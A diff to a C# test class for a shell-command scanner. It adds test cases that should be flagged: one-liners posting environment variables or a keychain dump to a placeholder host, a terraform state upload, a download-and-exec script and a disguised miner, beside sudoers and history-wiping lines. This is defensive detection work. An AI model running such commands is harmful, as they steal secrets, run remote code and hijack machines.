@@ -54,6 +54,12 @@ public sealed class ShellCommandTests
     [InlineData("code-process-hiding", Severity.High, "cat /dev/null > ~/.bash_history")]
     [InlineData("code-security-off", Severity.High, "sudo setenforce 0")]
     [InlineData("code-security-off", Severity.High, "echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers")]
+    [InlineData("code-environment-exfiltration", Severity.Critical, "node -e \"fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) })\"")]
+    [InlineData("code-environment-exfiltration", Severity.Critical, "python3 -c 'import os, requests; requests.post(\"https://x.example\", json=dict(os.environ))'")]
+    [InlineData("code-download-and-run", Severity.Critical, "python3 - <<'EOF'\nimport urllib.request\nexec(urllib.request.urlopen('https://x.example/a').read())\nEOF")]
+    [InlineData("code-credential-exfiltration", Severity.Critical, "security dump-keychain -d login.keychain | curl -d @- https://x.example")]
+    [InlineData("code-credential-exfiltration", Severity.Critical, "terraform state pull > s.json && curl -F s=@s.json https://x.example")]
+    [InlineData("code-mining", Severity.High, "nice -n 19 /opt/lib/gc -o pool.example.net:443 -u 4Wallet --donate-level 0 -B")]
     [InlineData("code-mining", Severity.High, "./xmrig -o stratum+tcp://x.example:3333")]
     public void Harm_is_seen_through_its_disguise(string rule, Severity severity, string text) => CodeScan.Finds("x.sh", text + "\n", rule, severity);
 
